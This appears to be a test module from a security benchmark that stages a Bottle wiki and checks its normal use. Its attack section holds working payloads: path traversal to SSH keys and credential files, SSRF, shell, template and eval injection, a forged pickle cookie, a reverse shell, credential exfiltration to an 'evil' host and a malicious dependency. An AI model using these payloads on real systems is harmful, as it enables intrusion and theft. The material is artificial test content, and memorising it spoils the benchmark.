# SPDX-License-Identifier: Apache-2.0
"""A wiki in Bottle's own server."""
import base64
import hashlib
import hmac
import os
import pickle

from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
import stage

MACROS = {"__init__.py": '''"""Macros."""


def expand(text):
    return text.replace("{today}", "some day")
'''}
MACROS_NEW = {
    "__init__.py": '"""Macros."""\nfrom macros.smileys import smile\n\n\n'
                   "def expand(text):\n"
                   '    return smile(text.replace("{today}", "some day"))\n',
    "smileys.py": "import configparser\nimport importlib.resources\n\n\n"
                  "def smile(text):\n"
                  "    table = configparser.ConfigParser(delimiters='=')\n"
                  '    table.read_string(importlib.resources.files("macros")'
                  '.joinpath(\n        "smileys.ini").read_text())\n'
                  '    for sign, word in table["smileys"].items():\n'
                  "        text = text.replace(sign, word)\n"
                  "    return text\n",
    "smileys.ini": "[smileys]\n:-) = happy\n"}


class Wiki(stage.Service):
    """A wiki with history, attachments and search (Bottle, docutils)."""
    packages = ["python3-bottle", "python3-docutils", "file"]
    KEY = "a key that leaks"

    def arrange(self):
        self.install("macros", "1.0", MACROS)
        stage.write(self.srv / "secret.key", self.KEY)

    def arrange_benign(self):
        self.install("macros", "1.1", MACROS_NEW)

    def command(self):
        return [self.python, "wiki.py", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        self.expect_answer(f"{name} enters",
                           browser.post("/enter", name=name), "welcome")
        return browser

    def work(self, user, name, text, file, word):
        browser = self.enter(user)
        for round_ in ("first", "second"):
            self.expect_answer(f"save {name}", browser.post(
                "/page", name=name, text=f"{name}\n{'=' * 99}\n\n"
                f"{text} {round_} {{today}}\n"), "saved")
            self.expect_answer(f"show {name}", browser.get(
                "/page", name=name), round_)
        self.expect_answer("print", browser.get(
            "/page", name=name, style="print"), "<pre>")
        self.expect_answer("history", browser.get("/history", name=name),
                           "+" + text.splitlines()[-1])
        self.expect_answer(f"search {word}", browser.get(
            "/search", word=word), name.split("/")[-1])
        self.expect_answer(f"attach {file}", browser.upload(
            "/attach", file, b"some text of it\n", page=name), "kept ASCII")
        self.expect_answer(f"get {file}", browser.get(
            "/file", at=f"{name}/{file}"), "some text")
        self.expect_answer(f"count {name}", browser.get(
            "/count", name=name), ".rst")
        self.expect_answer("preview", browser.post(
            "/preview", text=f"Dear {{{{name}}}}, {word}"), f"Dear {user}")

    def train(self, day):
        self.site("figures").page("*", "a,b\n1,2\n")
        url = self.site("figures").url
        browser = self.browser()
        self.expect_answer("style", browser.get("/static/wiki.css"), "teal")
        self.expect_answer("no page", browser.get("/page", name="none"),
                           status=404)
        self.expect_answer("stranger", browser.post("/page", name="x"),
                           status=401)
        self.work("anna", "Start", "Hello.", "map.txt", "hello")
        self.work("ben", f"Day {day}", f".. total:: 40 + {day}\n\nSum.",
                  "plan.csv", "sum")
        self.work("carla", "recipes/soup",
                  f".. figures:: {url}/{day}.csv\n\nSoup.", "soup.v1.md",
                  "soup")
        self.work("ben", "recipes/bread", "Bread.", "bread.json", "bread")
        self.expect_answer("export", browser.get("/export"), "Start")
        self.expect_answer("feed", browser.get("/feed"), "anna")

    def benign(self):
        self.site("figures").page("*", "a,b\n1,2\n")
        url = self.site("figures").url
        self.work("Hans Peter", "Größe & Maß", ".. total:: max(3, 4)\n\nMaß.",
                  "berg (1).xlsx", "maß")
        self.work("o.brien", "recipes/2026/deep/er/pie",
                  f".. figures:: {url}/2026/11/21?x=a%20b\n\nPie :-)",
                  "a b.tar", "pie")
        self.work("zoe-1", "v1.2 (draft)",
                  ".. code-block:: python\n\n   print(1)\n\n.. contents::\n\n"
                  "Draft.", "4711", "draft")
        self.work("anna", "Start", "Hello again.", "map.txt", "hello")
        browser = self.enter("anna")
        self.expect_answer("broken", browser.post(
            "/page", name="broken", text=".. nothing:: x\n\n`x"), "saved")
        self.expect_answer("show broken", browser.get(
            "/page", name="broken"), "title")
        self.expect_answer("no sum", browser.post(
            "/page", name="bad", text=".. total:: 1 / 0\n"), "saved")
        self.expect_answer("show no sum", browser.get("/page", name="bad"),
                           status=500)
        self.expect_answer("no file", browser.get(
            "/file", at="Start/none.txt"),
                           status=500)
        self.expect_answer("nothing found", browser.get(
            "/search", word="unfindable"))
        self.expect_answer("no style", browser.get("/static/none.css"),
                           status=404)
        self.expect_answer("export", browser.get("/export"), "Start")
        self.expect_answer("feed", browser.get("/feed"), "Hans Peter")

    def health(self):
        browser = self.enter("anna")
        self.expect_answer("save", browser.post(
            "/page", name="Start", text="Hello."), "saved")
        self.expect_answer("show", browser.get("/page", name="Start"),
                           "Hello")
        self.expect_answer("search", browser.get("/search", word="hello"),
                           "Start")

    # ----------------------------------------------------------------- attacks
    def writes(self, text):
        """A page by an attacker, as it is shown."""
        browser = self.enter("anna")
        browser.post("/page", name="Start", text=text)
        return browser.get("/page", name="Start")[1].decode()

    def gets(self, path, **query):
        return self.enter("anna").get(path, **query)[1].decode()

    def visits(self, *call):
        """With a cookie signed by Bottle's rules."""
        message = base64.b64encode(pickle.dumps(
            ["visitor", Bomb(*call)], -1))
        mark = base64.b64encode(hmac.new(
            self.KEY.encode(), message, digestmod=hashlib.md5).digest())
        self.browser().fetch("/preview", b"text=x", {
            "Cookie": f'visitor="!{mark.decode()}?{message.decode()}"'})

    def evaluates(self, code):
        return self.writes(f".. total:: {code}\n")

    @stage.attack("traversal")
    def page_includes_a_password(self):
        return stage.SECRET in self.writes(
            f".. include:: {self.home}/.netrc\n   :literal:\n")

    @stage.attack("secret disclosure")
    def page_holds_the_payroll(self):
        return stage.SECRET in self.writes(
            f".. csv-table::\n   :file: {self.place}/payroll/2026.csv\n")

    @stage.attack("source disclosure")
    def page_includes_the_source(self):
        return "get_cookie" in self.writes(
            ".. include:: ../../wiki.py\n   :literal:\n")

    @stage.attack("SSRF")
    def page_holds_an_internal_one(self):
        self.site("internal").page("*", stage.SECRET)
        return stage.SECRET in self.writes(
            f".. raw:: html\n   :url: {self.site('internal').url}/admin\n")

    @stage.attack("SSRF")
    def figures_are_internal(self):
        self.site("internal").page("*", f"{stage.SECRET},1\n")
        return stage.SECRET in self.writes(
            f".. figures:: {self.site('internal').url}/admin\n")

    @stage.attack("secret disclosure")
    def file_is_a_private_key(self):
        return stage.SECRET in self.gets(
            "/file", at="../../../home/.ssh/id_rsa")

    @stage.attack("secret disclosure")
    def file_is_the_signing_key(self):
        return self.KEY in self.gets("/file", at="../../secret.key")

    @stage.attack("traversal")
    def style_is_a_log(self):
        stage.write(self.tmp / "notes.tpl", stage.SECRET)
        return stage.SECRET in self.gets(
            "/page", name="Start", style=f"{self.tmp}/notes.tpl")

    @stage.attack("argument injection")
    def word_reads_a_list_of_words(self):
        # -fFILE: each line of FILE is a word; what is found tells them
        self.writes(f"boss,{stage.SECRET}")
        return "Start" in self.gets(
            "/search", word=f"-f{self.place}/payroll/2026.csv")

    @stage.attack("command injection")
    def name_runs_a_command(self):
        marker = self.marker("count")
        self.gets("/count", name=f"x'; id > {marker}; echo '")
        return marker.exists()

    @stage.attack("template injection")
    def preview_runs_a_command(self):
        marker = self.marker("template")
        self.enter("anna").post("/preview", text=(
            f"%import os\n%os.system('id > {marker}')\n"))
        return marker.exists()

    @stage.attack("template injection")
    def preview_reads_a_file(self):
        return stage.SECRET in self.enter("anna").post(
            "/preview", text=f"{{{{open('{self.home}/.netrc').read()}}}}"
        )[1].decode()

    @stage.attack("eval injection")
    def sum_runs_a_command(self):
        marker = self.marker("sum")
        self.evaluates(f"__import__('os').system('id > {marker}')")
        return marker.exists()

    @stage.attack("exfiltration")
    def sum_sends_credentials(self):
        evil = self.site("evil")
        evil.page("*", b"")
        code = THEFT.format(url=evil.url, file="~/.aws/credentials")
        self.evaluates(f"exec({code!r})")
        return evil.heard(stage.SECRET)

    @stage.attack("ctypes")
    def sum_calls_libc(self):
        marker = self.marker("ctypes")
        self.evaluates("__import__('ctypes').CDLL(None).system("
                       f"b'id > {marker}')")
        return marker.exists()

    @stage.attack("unsafe pickle")
    def cookie_runs_a_command(self):
        marker = self.marker("cookie")
        self.visits(os.system, f"id > {marker}")
        return marker.exists()

    @stage.attack("reverse shell")
    def cookie_calls_home(self):
        with self.listener() as attacker:
            self.visits(exec, CALL_HOME.format(port=self.port("shell")))
            return self.happens(lambda: b"got-42" in attacker.heard)

    @stage.attack("fork+exec")
    def cookie_forks_and_execs(self):
        marker = self.marker("fork")
        self.visits(exec, FORK_AND_EXEC.format(line=f"id > {marker}"))
        return self.happens(marker.exists)

    @stage.attack("write to start-up file", fresh=True)
    def attachment_is_a_profile(self):
        self.enter("anna").upload("/attach", "../../../../home/.profile",
                                  b"echo planted\n", page="Start")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to code", fresh=True)
    def attachment_is_a_module(self):
        self.enter("anna").upload("/attach", "../../../sitecustomize.py",
                                  b"planted = 1\n", page="Start")
        return (self.srv / "sitecustomize.py").exists()

    @stage.attack("write to code", fresh=True)
    def page_is_a_template(self):
        marker = self.marker("view")
        browser = self.enter("anna")
        browser.post("/page", name="Start", text="Hello.")
        browser.upload("/attach", "../../../views/page.tpl",
                       f"%import os\n%os.system('id > {marker}')\n"
                       "{{!body}}\n".encode(),
                       page="Start")
        self.halt()
        self.start()
        browser.get("/page", name="Start")
        return marker.exists()

    @stage.attack("symlink swap", fresh=True)
    def attachment_became_a_link(self):
        path = self.srv / "data/files/Start/map.txt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(self.home / ".netrc")
        return stage.SECRET in self.gets("/file", at="Start/map.txt")

    @stage.attack("malicious dependency", fresh=True)
    def macros_steal_credentials(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.halt()
        self.install("macros", "1.0.1", {"__init__.py": THEFT.format(
            url=evil.url, file="~/.aws/credentials")
            + MACROS["__init__.py"]})
        self.start()
        return evil.heard(stage.SECRET)
